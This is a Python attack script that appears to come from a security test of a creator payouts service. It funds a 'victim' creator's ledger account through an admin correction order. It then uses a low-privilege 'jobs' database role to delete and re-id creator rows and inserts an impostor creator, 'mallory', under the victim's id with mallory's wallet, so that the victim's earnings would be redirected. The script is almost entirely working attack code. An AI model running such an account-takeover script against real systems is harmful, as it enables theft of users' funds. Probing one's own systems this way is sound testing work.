from h import *; from db import q
ids=json.load(open('ids.json')); keys=json.load(open('keys.json'))
# B: jobs role / serve role on creators
v4=ids['vic4']; v5=ids['vic5']
b=json.dumps({'from':'reward_pool','to':f'payable:creator:{v4}','asset':'PIX','amount':44444}); print(q('ledger',"select ledger.place_order(%s,'correction',%s::jsonb,'fund v4',86400)",ADMIN,b))
time.sleep(2)
def t(role,label,sql,*a):
    try: print(role,label,'->',q(role,sql,*a))
    except Exception as e: print(role,label,'ERR',str(e).strip()[:200].replace('\n',' '))
t('jobs','delete creator with money','delete from media.creators where id=%s',v4)
t('jobs','delete ana with videos','delete from media.creators where id=1')
t('jobs','update id','update media.creators set id=5000 where id=%s',v5)
t('jobs','rename ana->zzz','update media.creators set handle=%s where id=1','ana')
show('GET victim', req('GET',f'/v1/creators/{v4}',None))
show('earn', req('GET',f'/v1/creators/{v4}/earnings',keys['vic4']))
show('PUT victim wallet', req('PUT',f'/v1/creators/{v4}/wallet',keys['vic4'],{'wallet':str(kp('v4').pubkey())}))
print(pixr('payouts','wallet','set',v4,str(kp('v4').pubkey())))
t('jobs','new creator with victims id','insert into media.creators(id,handle,name,wallet) overriding system value values(%s,%s,%s,%s)',v4,'mallory','mallory',str(kp('mallory').pubkey()))
time.sleep(4); print(q('owner','select creator_id,wallet,set_by,hold_until from ledger.wallets where creator_id=%s',v4)); print(q('owner','select * from ledger.accounts where owner_id=%s',v4) if False else '')
show(req('GET',f'/v1/creators/{v4}/earnings',keys['vic4']))
print('audit',pixr('audit'))
